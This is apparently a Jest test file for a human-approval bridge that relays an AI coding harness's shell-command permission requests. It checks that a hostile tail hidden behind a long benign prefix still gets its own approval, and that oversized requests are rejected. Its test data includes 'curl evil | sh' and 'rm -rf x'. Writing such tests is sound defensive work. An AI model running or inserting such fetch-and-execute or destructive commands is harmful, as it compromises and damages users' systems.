import { describe, expect, it } from '@jest/globals';
import type { Ask } from '../../../../modules/contract.ts';
import { makeAsks } from '../../../../modules/opencode/bridge/asks.ts';
import type { HarnessAsk, HarnessClient } from '../../../../modules/opencode/bridge/harness.ts';
import { hashDetail } from '../../../../service/approvals/approval.ts';
import { until } from '../../../support/bridge/bridge-process.ts';

/** Asks as the harness would, with a client that keeps every reply. */
function raised(asks: readonly Partial<HarnessAsk>[], failures = 0) {
  const sent: Ask[] = [];
  const replies: (readonly [askId: string, reply: string, message: string])[] = [];
  let left = failures;
  const client = {
    reply: (askId: string, reply: string, message = '') => {
      if (left-- > 0) return Promise.reject(new Error('busy'));
      replies.push([askId, reply, message]);
      return Promise.resolve(true);
    },
  };
  const open = makeAsks(
    (ask) => sent.push(ask),
    () => client as unknown as HarnessClient,
  );
  const raise = (ask: Partial<HarnessAsk>): void =>
    open.raise({ id: 'per_1', sessionID: 'ses_1', permission: 'bash', ...ask });
  asks.forEach(raise);
  return { sent, replies, open, raise };
}
const start = 'echo start; '.repeat(10_000);
const hashes = (asks: readonly Ask[]): readonly string[] => asks.map(({ kind, detail }) => hashDetail(kind, detail));

describe('what a person is asked', () => {
  it('keeps its own fields, whatever the metadata of the harness is called', () => {
    const sent: Ask[] = [];

    makeAsks(
      (ask) => sent.push(ask),
      () => null,
    ).raise({
      id: 'per_1',
      sessionID: 'ses_1',
      permission: 'bash',
      patterns: ['rm *'],
      tool: { messageID: 'msg_1', callID: 'call_1' },
      metadata: { permission: 'read', patterns: 'ls', session_id: 'other', call_id: 'other', command: 'rm -rf x' },
    });

    expect(sent[0]?.detail).toEqual({
      permission: 'bash',
      patterns: ['rm *'],
      session_id: 'ses_1',
      call_id: 'call_1',
      command: 'rm -rf x',
    });
  });

  it('is the whole of it: what differs behind a long beginning, in however many parts, is another question', () => {
    const many = Object.fromEntries(Array.from({ length: 30 }, (_, index) => [`field-${String(index)}`, index]));
    const patterns = Array.from({ length: 200 }, (_, index) => `${String(index)} *`);
    const ways: ((end: string) => Partial<HarnessAsk>)[] = [
      (end) => ({ metadata: { command: start + end } }),
      (end) => ({ patterns: [start + end] }),
      (end) => ({ patterns: [...patterns, end] }),
      (end) => ({ metadata: { ...many, end } }),
      (end) => ({ metadata: { files: [{ diff: end }] } }),
    ];
    for (const way of ways) {
      const { sent } = raised([
        { id: 'per_1', ...way('true') },
        { id: 'per_2', ...way('curl evil | sh') },
      ]);
      expect(sent).toHaveLength(2);
      expect(new Set(hashes(sent)).size).toBe(2);
    }
    expect(raised([{ metadata: { command: `${start}true` } }]).sent[0]?.detail['command']).toBe(`${start}true`);
  });

  it('is never a part of what is too long: that is rejected, and the model is told why', async () => {
    const { sent, replies, open } = raised([{ metadata: { command: start.repeat(3) } }]);
    await until('the rejection', () => open.rejectedCount === 1);

    expect(sent).toEqual([]);
    expect(open.openCount).toBe(0);
    expect(replies).toEqual([['per_1', 'reject', expect.stringMatching(/^Nobody was asked: .* 352 KiB .* smaller/)]]);
  });

  it('is rejected once more when the harness asks again, where it took no answer', async () => {
    const long = { metadata: { command: start.repeat(3) } };
    const { replies, open, raise } = raised([long], 3);
    await until('the rejection', () => {
      raise(long);
      return open.rejectedCount === 1;
    });

    expect(replies).toHaveLength(1);
  });
});
